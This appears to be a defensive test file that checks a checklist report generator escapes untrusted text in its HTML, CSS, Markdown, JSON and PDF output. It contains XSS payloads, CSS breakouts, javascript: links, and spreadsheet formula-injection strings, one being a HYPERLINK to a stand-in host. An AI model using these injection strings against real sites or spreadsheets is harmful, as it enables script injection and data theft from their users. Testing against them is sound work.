// Whatever an outside text holds, it stays text: in HTML, in the style sheet, in the PDF, in Markdown and in JSON. Nothing is
// written as CSV; a table's cell that is pasted into a spreadsheet begins no formula either. Every text of the document is
// replaced, so no field can be forgotten. The screen: test/renderer/behaviour.test.ts.
import { execFileSync } from 'node:child_process';
import { describe, expect, test } from 'vitest';
import { checklistFromView } from '../../src-main/report/checklist-from-view.ts';
import { checklistHtml } from '../../src-main/report/checklist-html.ts';
import { checklistJson } from '../../src-main/report/checklist-json.ts';
import { checklistMarkdown, escapedMarkdown } from '../../src-main/report/checklist-markdown.ts';
import type { ChecklistDocument } from '../../src-main/report/checklist-document.ts';
import { cssStringHtml } from '../../src-main/report/html-text.ts';
import { canPrint, openBrowser, print } from './print.ts';
import { seedCase, seedView } from './seed-case.ts';

const payloads = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</style><script>alert(1)</script>',
  '</title><h1>x</h1>',
  '--><!-- <b>',
  ']]><svg/onload=alert(1)>',
  '&lt;b&gt; &amp; &#x3c;',
  '@import url(http://x.example/);}*{display:none}',
  '\\"; } body { display:none } /*',
  '${constructor} {value} {title}',
];

/** Every text of the document replaced by the payload; keys that pick a layout are kept. */
function filledWith(document: ChecklistDocument, payload: string): ChecklistDocument {
  const fixed = new Set(['language', 'tone', 'kind', 'verdict', 'madeAt']);
  const fill = (value: unknown, key: string): unknown => {
    if (typeof value === 'string') return fixed.has(key) ? value : payload;
    if (Array.isArray(value)) return value.map((item: unknown) => fill(item, key));
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([name, item]) => [name, fill(item, name)]));
  };
  return fill(document, '') as ChecklistDocument; // same shape, other texts
}

const judged = seedCase({ practice: true });
const whole = checklistFromView(judged, seedView(judged));
// So much as page one always has room for: what gives way for longer words would change the number of elements.
const document: ChecklistDocument = {
  ...whole,
  owner: {
    ...whole.owner,
    next: whole.owner.next.slice(0, 1).map((box) => ({ ...box, words: box.words.slice(0, 1) })),
    conclusion: {
      ...whole.owner.conclusion,
      lines: whole.owner.conclusion.lines.map((line) => ({
        ...line,
        sentences: line.sentences.slice(0, 1).map((words) => words.slice(0, 1)),
      })),
    },
  },
};
const tagsOf = (html: string): string[] => html.match(/<[a-zA-Z/!][^>]*>/g) ?? [];
const shapeOf = (html: string): string =>
  tagsOf(html)
    .map((tag) => /^<[/!]?[a-zA-Z0-9]+/.exec(tag)?.[0] ?? tag)
    .filter((tag) => !/^<\/?(?:wbr|span)$/.test(tag)) // the number of places to break a line follows the text
    .join('');

describe('HTML', () => {
  const plain = checklistHtml(filledWith(document, 'x'));

  test.each(payloads)('%s', (payload) => {
    const html = checklistHtml(filledWith(document, payload));
    expect(shapeOf(html)).toBe(shapeOf(plain));
    expect(html).not.toContain('<script');
    expect(html).not.toContain('<img');
    for (const tag of tagsOf(html)) expect(tag.replace(/="[^"]*"/g, '=')).not.toMatch(/\son\w+/);
    const style = html.slice(html.indexOf('<style>'), html.indexOf('</style>'));
    expect(style).not.toContain(payload);
  });

  test('has no script, no style attribute and no address but the numbers of its own evidence', () => {
    const html = checklistHtml(document);
    const tags = tagsOf(html).filter((tag) => !/^<a href="#evidence-\d+" tabindex="-1">$/.test(tag));
    expect(tags.filter((tag) => /^<script|\sstyle=|\s(?:src|href|action)=/.test(tag))).toEqual([]);
  });
});

test('a CSS string holds nothing that could end it', () => {
  for (const payload of payloads) {
    const inner = cssStringHtml(payload).slice(1, -1);
    expect(inner).toMatch(/^(?:[A-Za-z0-9 \u3040-\u30ff\u4e00-\u9fff]|\\[0-9a-f]+ )*$/);
  }
});

describe('Markdown', () => {
  test.each([
    ['[click](javascript:alert(1))', '\\[click\\](javascript:alert(1))'],
    ['![x](http://x.example/p.png)', '!\\[x\\](http\\://x.example/p.png)'],
    ['<img src=x>', '\\<img src=x\\>'],
    ['# heading', '\\# heading'],
    ['- item', '\\- item'],
    ['1. item', '1\\. item'],
    ['a | b', 'a \\| b'],
    ['*a* _b_ ~~c~~ `d`', '\\*a\\* \\_b\\_ \\~\\~c\\~\\~ \\`d\\`'],
    ['https://x.example www.x.example', 'https\\://x.example www\\.x.example'],
    ['&lt;b', '\\&lt;b'],
    ['=== ', '\\=== '],
  ])('%s', (text, escaped) => {
    expect(escapedMarkdown(text)).toBe(escaped);
  });

  test('a value can neither close its code span nor leave its table cell or its indented block', () => {
    const text = checklistMarkdown(filledWith(document, '`` | **x** <b> ```'));
    for (const line of text.split('\n')) {
      if (line.startsWith('    ')) continue; // an indented block shows everything as it is
      // Backslashes do not act inside a code span, so spans go first: a run of backticks to the next run of its length.
      const outside = line.replace(/(?<![\\`])(`+)(?!`).*?(?<!`)\1(?!`)/g, '').replace(/\\./g, '');
      expect(outside.replace(/<br>/g, '')).not.toMatch(/[<`]/);
    }
  });

  test.each(['a\n# b', 'a\r\n| b | c |', 'a\n\n- b', 'a\r***\r'])(
    'a line break begins nothing: %j',
    (payload) => {
      const lines = (text: string): number => text.split(/\r\n|\r|\n/).length;
      const text = checklistMarkdown(filledWith(document, payload));
      expect(lines(text)).toBe(lines(checklistMarkdown(filledWith(document, 'x'))));
    },
  );

  test('tables keep their number of columns', () => {
    const cells = (line: string): number => line.replace(/\\./g, '').split('|').length;
    const lines = checklistMarkdown(filledWith(document, 'a | b')).split('\n');
    for (const [index, line] of lines.entries()) {
      const previous = lines[index - 1];
      if (line.startsWith('|') && previous?.startsWith('|')) expect(cells(line)).toBe(cells(previous));
    }
  });
});

test('JSON is one object that says what it is', () => {
  const value = JSON.parse(checklistJson(filledWith(document, '"\n\u2028\\'))) as Record<string, unknown>;
  expect(value['kind']).toBe('todoku-checklist');
  expect(value['version']).toBe(1);
});

test.each(['=HYPERLINK("http://x.example/?"&A1)', '+1+cmd|x', '-2+3', '@SUM(1)', '\t=1', '  =1', '\r=1'])(
  'no cell of a table begins a formula: %j',
  (payload) => {
    const cells = checklistMarkdown(filledWith(document, payload))
      .split('\n')
      .filter((line) => line.startsWith('|') && !/^\|[ |-]+$/.test(line))
      .flatMap((line) => line.split(/(?<!\\)\|/).map((cell) => cell.trim()));
    expect(cells.filter((cell) => /^[=+@-]/.test(cell))).toEqual([]);
  },
);

test.skipIf(!canPrint)(
  'in the PDF it is words: no script, no action, no address to press',
  { timeout: 90_000 },
  async () => {
    const payload = '<script>app.alert(1)</script> (javascript:x) /JS /URI https://evil.example/ =1+1';
    const browser = await openBrowser();
    const printed = await print(browser, filledWith(document, payload));
    try {
      expect((await printed.text('-raw')).replace(/\s/g, '')).toContain(payload.replace(/\s/g, ''));
      const asked = (option: string) => execFileSync('pdfinfo', [option, printed.path], { encoding: 'utf8' });
      expect(asked('-js').trim()).toBe('');
      expect(asked('-url').trim().split('\n').slice(1)).toEqual([]);
      const raw = Buffer.from(printed.bytes).toString('latin1');
      expect(raw).not.toMatch(/\/(?:JavaScript|Launch|EmbeddedFile|RichMedia|SubmitForm|AA)\b/);
    } finally {
      await printed.close();
      await browser.close();
    }
  },
);
